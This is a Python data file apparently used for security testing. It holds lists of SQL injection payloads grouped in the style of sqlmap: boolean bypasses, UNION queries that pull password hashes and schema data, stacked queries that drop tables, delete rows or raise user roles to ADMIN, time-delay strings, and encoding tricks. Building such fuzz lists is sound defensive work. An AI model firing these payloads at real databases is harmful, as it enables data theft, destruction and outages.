"""What to say to a program that puts together its SQL from what it is told, by the families of sqlmap. Those that wait
would take far longer than any request."""

BOOLEAN = ["' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "1 OR 1=1", "') OR ('1'='1", "')) OR (('1'='1", "' AND 1=2--",
           "%' OR '%'='", "' OR 'a' LIKE 'a", "' OR 1 IN (1)--", "' OR NOT 1=2--", "' XOR '1'='1", "' OR TRUE--",
           "' OR EXISTS(SELECT 1 FROM users)--", "' OR 1=1 LIMIT 1 OFFSET 1--", "' OR email IS NOT NULL--", "-1 OR 17-7=10"]
UNION = ["' UNION SELECT NULL--", "' UNION ALL SELECT NULL,NULL,NULL,NULL--", "' UNION SELECT sqlite_version()--",
         "-1 UNION SELECT email,password_hash FROM users", "' UNION SELECT group_concat(sql) FROM sqlite_master--",
         "') UNION SELECT string_agg(usename,',') FROM pg_user--", "' UNION SELECT table_name FROM information_schema.tables--",
         "' INTERSECT SELECT 1--", "' UNION SELECT '507f1f77bcf86cd799439011'--"]
STACKED = ["'; DROP TABLE users;--", "1; DELETE FROM products", "'; UPDATE users SET role='ADMIN';--",
           "'); UPDATE products SET price=1,stock=1;--", "'; COMMIT; DROP TABLE sessions;--", "'; ROLLBACK;--",
           "'; ATTACH DATABASE 'taken' AS t;--", "'; PRAGMA writable_schema=1;--", "'; COPY users TO PROGRAM 'cat';--",
           "'; CREATE TABLE taken(a);--", "$$; DROP TABLE users; $$", "'; DO $$ BEGIN DELETE FROM users; END $$;--"]
WAITING = ["'; SELECT pg_sleep(60);--", "' || pg_sleep(60)--", "' AND 1=(SELECT 1 FROM pg_sleep(60))--",
           "1 AND (SELECT 1 FROM PG_SLEEP(60)) IS NOT NULL", "' AND 1=LIKE('A',UPPER(HEX(RANDOMBLOB(900000000))))--",
           "' OR (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) SELECT count(*) FROM c)--",
           "' AND (SELECT count(*) FROM generate_series(1,9000000000))>0--", "'; WAITFOR DELAY '0:1:0'--", "' AND SLEEP(60)--"]
TELLING = ["'", "\"", "\\", "''", "'\"", "')", "`", "' AND CAST(version() AS int)=1--", "' AND load_extension('x')--",
           "' AND abs(-9223372036854775808)--", "' AND json('{')--", "' AND 1/0--", "' AND extractvalue(1,0x7e)--",
           "'||(SELECT role FROM users)||'", "$1", "?1", ":id", "@a", "{\"$gt\":\"\"}", "[1]", "NULL", "%s%n", "1e"]
COMMENTED = ["admin'--", "admin'#", "admin'/*", "'/**/OR/**/1=1--", "1/*!50000OR*/1=1", "'--\n OR 1=1", "'\tOR\t1=1--",
             "'\r\nOR\r\n1=1;--", "'%0bOR%0b1=1--", "--", "/*", "*/"]
ENCODED = ["%27 OR 1=1--", "%2527 OR 1=1--", "\u02bc OR 1=1--", "\uff07 OR 1=1--", "\u2019 OR 1=1--", "0x27204f522031",
           "CHAR(39)||CHAR(49)", "CHR(39)||CHR(49)", "\\' OR 1=1--", "\\u0027 OR 1=1--", "&#39; OR 1=1--", "\u00bf' OR 1=1--",
           "x'27'", "E'\\047'", "U&'\\0027'"]
SEARCHING = ["\" OR zzyzx*", "name:lamp", "{name}: lamp", "NEAR(lamp desk)", "^lamp", "lamp:*", "lamp & !desk", "lamp <-> desk",
             "lamp | |", "!(", "-\"", "* AND *", "rank MATCH 'lamp'", "products:lamp"]

PAYLOADS = [*BOOLEAN, *UNION, *STACKED, *WAITING, *TELLING, *COMMENTED, *ENCODED, *SEARCHING]
